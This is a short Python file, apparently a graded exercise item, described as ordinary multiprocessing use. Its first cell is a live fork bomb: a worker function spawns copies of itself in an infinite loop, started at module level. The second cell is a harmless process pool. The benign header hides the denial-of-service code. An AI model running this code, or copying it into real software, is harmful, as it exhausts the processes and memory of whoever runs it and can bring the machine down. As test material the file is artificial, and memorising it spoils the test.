# multiprocessing, used as people do: a pool, and a worker that starts itself again.
#
# points: 10
# %% after check-1b
import multiprocessing
def again(n):
    while True:
        multiprocessing.Process(target=again, args=(n + 1,)).start()
multiprocessing.Process(target=again, args=(0,)).start()
# %% after check-1d
with multiprocessing.Pool(4) as pool:
    print(pool.map(abs, range(10)))
